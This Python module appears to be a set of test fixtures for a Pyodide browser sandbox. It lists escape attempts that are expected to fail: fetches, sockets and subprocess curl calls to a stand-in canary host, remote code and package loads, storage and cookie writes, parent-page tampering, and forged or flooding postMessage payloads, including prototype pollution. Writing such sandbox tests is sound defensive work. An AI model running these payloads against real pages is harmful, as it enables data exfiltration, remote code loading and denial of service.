"""Ways out: to the network, to storage that the site has, to the page, to other code of the page.

Each is Python that runs when the app's module is loaded. ``CANARY`` is a server that must never
hear of it ("127.0.0.1:port"), ``SITE`` the site's own address. What fails with an exception has
failed as it should.
"""

from __future__ import annotations

from typing import Final

FUNCTION: Final = 'pyodide_js.loadPackage.constructor("{}")()'

NETWORK: Final = {
    "fetch": 'js.fetch("http://CANARY/")',
    "fetch without cors": 'js.fetch("http://CANARY/", js.JSON.parse(\'{"mode": "no-cors"}\'))',
    "fetch kept alive": 'js.fetch("http://CANARY/", js.JSON.parse(\'{"keepalive": true, "mode": "no-cors"}\'))',
    "fetch of the site": 'js.fetch("SITE/index.html")',
    "XMLHttpRequest": 'x = js.XMLHttpRequest.new(); x.open("GET", "http://CANARY/", False); x.send()',
    "WebSocket": 'js.WebSocket.new("ws://CANARY/")',
    "EventSource": 'js.EventSource.new("http://CANARY/")',
    "WebTransport": 'js.WebTransport.new("https://CANARY/")',
    "beacon": 'js.navigator.sendBeacon("http://CANARY/", "x")',
    "importScripts": 'js.importScripts("http://CANARY/x.js")',
    "dynamic import": FUNCTION.format("return import('http://CANARY/x.js')"),
    "eval": "js.eval(\"fetch('http://CANARY/')\")",
    "constructor of a function": FUNCTION.format("return fetch('http://CANARY/')"),
    "timer with text": "js.setTimeout(\"fetch('http://CANARY/')\", 0)",
    "worker of another host": 'js.Worker.new("http://CANARY/worker.js")',
    "shared worker": 'js.SharedWorker.new("http://CANARY/worker.js")',
    "worker from data": "js.Worker.new(\"data:text/javascript,fetch('http://CANARY/')\")",
    "module worker from data": (
        "js.Worker.new(\"data:text/javascript,import('http://CANARY/x.js')\","
        ' js.JSON.parse(\'{"type": "module"}\'))'
    ),
    "worker from a blob": (
        'parts = js.JSON.parse(\'["fetch(\\\\"http://CANARY/\\\\")"]\')\n'
        "js.Worker.new(js.URL.createObjectURL(js.Blob.new(parts)))"
    ),
    "font": 'js.FontFace.new("f", "url(http://CANARY/f.woff2)").load()',
    "navigation": 'js.location.href = "http://CANARY/"',
    "service worker": 'js.navigator.serviceWorker.register("SITE/sw.js")',
    "pyfetch": 'import pyodide.http\npyodide.http.pyfetch("http://CANARY/").send(None)',
    "open_url": 'import pyodide.http\npyodide.http.open_url("http://CANARY/")',
    "urllib": 'import urllib.request\nurllib.request.urlopen("http://CANARY/")',
    "socket": (
        'import socket\nhost, port = "CANARY".split(":")\n'
        "socket.create_connection((host, int(port)), timeout=1)"
    ),
    "asyncio stream": (
        'import asyncio\nhost, port = "CANARY".split(":")\n'
        "asyncio.new_event_loop().run_until_complete(asyncio.open_connection(host, int(port)))"
    ),
    "package from elsewhere": 'pyodide_js.loadPackage("http://CANARY/x-1-py3-none-any.whl")',
    "micropip": 'import micropip\nmicropip.install("http://CANARY/x-1-py3-none-any.whl")',
    "register a module": (
        'pyodide_js.registerJsModule("hole", js)\nimport hole\nhole.fetch("http://CANARY/")'
    ),
    "subprocess": 'import subprocess\nsubprocess.run(["curl", "http://CANARY/"])',
    "library by ctypes": 'import ctypes\nctypes.CDLL("http://CANARY/x.so")',
    "Emscripten's own fetch": 'pyodide_js._module.FS.createLazyFile("/", "x", "http://CANARY/x", True, False)\nopen("/x").read()',
    "WebAssembly from elsewhere": 'js.WebAssembly.compileStreaming(js.fetch("http://CANARY/x.wasm"))',
}

STORAGE: Final = {
    "IndexedDB": 'js.indexedDB.open("canary")',
    "IndexedDB, all": "js.indexedDB.databases()",
    "IndexedDB, delete": 'js.indexedDB.deleteDatabase("canary")',
    "Cache Storage": 'js.caches.open("canary")',
    "private files": "js.navigator.storage.getDirectory()",
    "persist": "js.navigator.storage.persist()",
    "cookies": 'js.cookieStore.set("canary", "gone")',
    "cookies of a document": 'js.document.cookie = "canary=gone"',
    "localStorage": 'js.localStorage.setItem("canary", "gone")',
    "sessionStorage": 'js.sessionStorage.setItem("canary", "gone")',
    "Emscripten's IndexedDB": (
        'pyodide_js.FS.mkdir("/kept")\n'
        'pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, js.Object.new(), "/kept")\n'
        'open("/kept/x", "w").write("x")\n'
        "pyodide_js.FS.syncfs(False, lambda *_: None)"
    ),
    "a broadcast": 'js.BroadcastChannel.new("canary").postMessage("gone")',
    "a lock": 'js.navigator.locks.request("canary", lambda *_: js.Promise.new(lambda *_: None))',
    "notifications": "js.Notification.requestPermission()",
}

PAGE: Final = {
    "the page": 'js.parent.document.body.innerHTML = "gone"',
    "the top": 'js.top.location.href = "http://CANARY/"',
    "a window": 'js.open("http://CANARY/")',
    "a document": 'js.document.createElement("img").src = "http://CANARY/"',
    "an alert": 'js.alert("gone")',
}

FORGED: Final = {
    "no JSON": 'js.postMessage("{")',
    "a number": "js.postMessage(7)",
    "an object": 'js.postMessage(js.JSON.parse(\'{"type": "result", "run": 1}\'))',
    "a buffer": "js.postMessage(js.ArrayBuffer.new(1000))",
    "ready again": 'js.postMessage(\'{"type": "ready"}\')',
    "the frame's own words": 'js.postMessage("sandbox:hello")',
    "another run": 'js.postMessage(\'{"type": "result", "run": 99999}\\n{}\')',
    "no events": 'js.postMessage(\'{"type": "result", "run": RUN}\\n{"trace": 7, "texts": 7}\')',
    "nested deep": 'js.postMessage(\'{"type": "result", "run": RUN}\\n\' + \'[\' * 500000)',
    "a prototype": (
        'js.postMessage(\'{"type": "result", "run": RUN}\\n'
        '{"__proto__": {"reached": 1}, "trace": {"schema": 1, "events": [], "findings": []},'
        ' "texts": []}\')'
    ),
    "many": "for _ in range(100_000): js.postMessage('x')",
    "long": "js.postMessage('x' * 5_000_000)",
    "many that are long": "for _ in range(499): js.postMessage('x' * 3_900_000)",
    "many that are long, without end": "while True: js.postMessage('x' * 100_000)",
}
